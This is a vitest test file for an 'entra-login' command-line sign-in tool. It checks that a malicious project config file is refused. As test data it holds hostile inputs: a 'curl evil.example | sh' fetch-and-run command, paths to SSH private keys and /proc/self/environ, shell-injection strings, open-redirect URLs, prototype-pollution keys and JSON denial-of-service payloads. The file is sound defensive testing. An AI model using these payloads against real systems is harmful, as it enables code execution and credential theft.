import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fabrikam, webSecret } from '../../src/emulator/default-directory.ts';
import type { RunOptions, RunResult, World } from '../support/world.ts';
import { startWorld } from '../support/world.ts';

// A repository was cloned, an archive unpacked, and the person types a command in it.
let world: World;
let project: string;
beforeEach(async () => {
  world = await startWorld();
  project = mkdtempSync(join(tmpdir(), 'entra-login-project-'));
  mkdirSync(join(project, '.git'));
});
afterEach(async () => {
  await world.close();
  rmSync(project, { recursive: true });
});

const put = (content: string): void => writeFileSync(join(project, '.entra-login.json'), content);
// What the environment names comes before the file; here it names nothing but the emulator.
const unset = { ENTRA_LOGIN_TENANT: '', ENTRA_LOGIN_CLIENT_ID: '', ENTRA_LOGIN_REDIRECT_URI: '' };
const runIn = (argv: readonly string[], options: RunOptions = {}): Promise<RunResult> =>
  world.run(argv, { working: project, ...options, env: { ...unset, ...options.env } });

async function refused(argv: readonly string[] = ['login'], env: Record<string, string> = {}): Promise<string> {
  const before = world.emulator.requests.length;
  const { exitCode, stdout, stderr } = await runIn(argv, { env });
  expect({ exitCode, stdout, requests: world.emulator.requests.length - before }).toEqual({
    exitCode: 2,
    stdout: '',
    requests: 0,
  });
  return stderr;
}

describe('a project file that would redirect the sign-in or run something', () => {
  it.each([
    ['authorityHost', 'https://evil.example'],
    ['AuthorityHost', 'https://evil.example'],
    ['authority', 'https://evil.example'],
    ['tokenEndpoint', 'https://evil.example'],
    ['browser', 'sh -c "curl evil.example | sh"'],
    ['store', 'file'],
    ['stateDir', '/tmp/x'],
    ['clientCertificate', '/home/me/.ssh/id_rsa'],
    ['federatedTokenFile', '/home/me/.ssh/id_rsa'],
    ['proxy', 'http://evil.example:3128'],
    ['__proto__', { authorityHost: 'https://evil.example' }],
    ['constructor', { prototype: { authorityHost: 'https://evil.example' } }],
    ['profiles', { default: { authorityHost: 'https://evil.example' } }],
  ])('by "%s" is refused by name, before anything is sent', async (name, value) => {
    put(`{"tenant":"contoso.com",${JSON.stringify(name)}:${JSON.stringify(value)}}`);
    expect(await refused()).toContain(`"${name}" is not allowed`);
  });

  it.each([
    'https://evil.example/callback',
    'http://evil.example/callback',
    'http://localhost.evil.example/callback',
    'http://localhost@evil.example/callback',
    'http://evil.example#@localhost/callback',
    'http://evil.example\\@localhost/callback',
    'http:localhost/callback',
    'http://127.0.0.1.evil.example/',
    'http://0.0.0.0:5000/callback',
    'http://[::]:5000/callback',
    'http://10.0.0.1:5000/callback',
    'http://localhost:5000/callback?next=https://evil.example',
    'javascript:alert(1)',
    'myapp://callback',
  ])('by the redirect URI %s is refused', async (redirectUri) => {
    put(JSON.stringify({ tenant: 'contoso.com', clientId: 'c', redirectUri }));
    expect(await refused()).toContain('The redirect URI is not valid');
  });

  it.each([
    ['tenant', '../evil.example'],
    ['tenant', 'contoso.com/oauth2/v2.0/authorize?x='],
    ['tenant', 'evil.example:443'],
    ['tenant', '@evil.example'],
    ['tenant', 'a..b'],
    ['clientId', 'c&redirect_uri=https://evil.example'],
    ['clientId', '$(id)'],
    ['cloud', 'https://evil.example'],
    ['cloud', '__proto__'],
    ['profile', '../../.ssh/id_rsa'],
    ['profile', 'work/client-secret'],
    ['profile', '.hidden'],
    ['profile', 'a\u0000b'],
  ])('by "%s": "%s" is refused', async (name, value) => {
    put(JSON.stringify({ tenant: 'contoso.com', clientId: 'c', redirectUri: 'http://localhost', [name]: value }));
    // Where the environment names a host, no file's cloud is looked at.
    expect(await refused(['login'], { ENTRA_LOGIN_AUTHORITY_HOST: '' })).toMatch(/is not valid/);
  });

  it('naming a tenant of the attacker gets no token for it, and the refresh token is not redeemed there', async () => {
    await world.run(['login']);
    put(JSON.stringify({ tenant: fabrikam.id }));
    const before = world.emulator.requests.length;
    for (const argv of [['token'], ['exec', '--', 'sh'], ['token', '--refresh']]) {
      const { exitCode, stdout, stderr } = await runIn(argv);
      expect({ exitCode, stdout }).toEqual({ exitCode: 3, stdout: '' });
      expect(stderr).toContain('The project file names the tenant');
    }
    expect(world.emulator.requests.slice(before).filter(({ path }) => path.endsWith('/token'))).toEqual([]);
  });

  it('naming a client of the attacker gets no kept token', async () => {
    await world.run(['login']);
    put(JSON.stringify({ clientId: '99999999-9999-9999-9999-999999999999' }));
    for (const argv of [['token'], ['exec', '--', 'sh']]) {
      expect(await runIn(argv)).toMatchObject({ exitCode: 3, stdout: '' });
    }
  });

  it('with a secret in it is refused, and the secret not repeated', async () => {
    put(JSON.stringify({ tenant: 'contoso.com', clientSecret: webSecret }));
    const stderr = await refused();
    expect(stderr).toContain('"clientSecret" is not allowed');
    expect(stderr).not.toContain(webSecret);
  });

  it('cannot put a command into the hint that a person pastes into a shell', async () => {
    await world.run(['login']);
    for (const scope of [
      'api://x/$(touch${IFS}owned)',
      'api://x/`id`',
      "api://x/';id;'",
      'api://x/a;id',
      'api://x/!!',
    ]) {
      put(JSON.stringify({ scopes: [scope] }));
      world.emulator.injectFault({
        endpoint: 'token',
        kind: 'refused',
        error: 'invalid_grant',
        aadsts: 65_001,
        times: 1,
      });
      const { exitCode, stderr } = await runIn(['token']);
      expect(exitCode).toBe(3);
      expect(stderr).toMatch(/try: entra-login login --scope SCOPES$/m);
      expect(stderr).not.toContain(scope.slice(8));
    }
  });
});

describe('a project file that would hang or crash the program', () => {
  it('as a FIFO is refused at once, with and without somebody who holds it open', async () => {
    const pipe = join(project, '.entra-login.json');
    execFileSync('mkfifo', [pipe]);
    expect(await refused()).toContain('it is a pipe');
  });

  it.each(['/dev/zero', '/dev/random', '/dev/tty', '/dev/stdin', '/proc/self/environ', '/proc/self/mem', '/'])(
    'as a link to %s is refused, and nothing of it printed',
    async (target) => {
      symlinkSync(target, join(project, '.entra-login.json'));
      const stderr = await refused();
      expect(stderr.split('\n')).toHaveLength(3);
      expect(stderr).not.toContain('PATH=');
    },
  );

  it('as a link to itself is no file', async () => {
    symlinkSync('.entra-login.json', join(project, '.entra-login.json'));
    expect([2, 3]).toContain((await runIn(['token'])).exitCode);
  });

  it('of a gigabyte of nothing is refused unread', async () => {
    put('');
    truncateSync(join(project, '.entra-login.json'), 1024 ** 3);
    expect(await refused()).toContain('it is larger than 1 MiB');
  });

  it.each([
    ['nested a hundred thousand levels deep', `{"x":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`],
    ['of brackets alone', `{"x":${'['.repeat(400_000)}${']'.repeat(400_000)}}`],
    ['with a text of a megabyte', JSON.stringify({ x: 'a\\"'.repeat(150_000) })],
    ['with a hundred thousand members', `{${Array.from({ length: 90_000 }, (_, at) => `"${at}":1`).join(',')}}`],
    ['nested below the limit, many times', `{"x":[${`${'{"a":'.repeat(90)}1${'}'.repeat(90)},`.repeat(1_500)}1]}`],
  ])('%s is refused within seconds', async (_what, content) => {
    put(content);
    const startedAt = performance.now();
    await refused();
    expect(performance.now() - startedAt).toBeLessThan(10_000); // a hang bound
  });

  it.each([
    '{"tenant":',
    '\ufeff',
    '\0',
    '{"tenant":"a","tenant":["b"]}',
    '[]',
    '"x"',
    '{"scopes":"openid"}',
    '{"scopes":[[]]}',
  ])('that is %j is refused', async (content) => {
    put(content);
    await refused();
  });

  it('with escape sequences in names and values prints none', async () => {
    put('{"\\u001b]0;owned\\u0007\\u009b2J":1}');
    expect(await refused()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(await refused(['login', '--json'])).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });
});
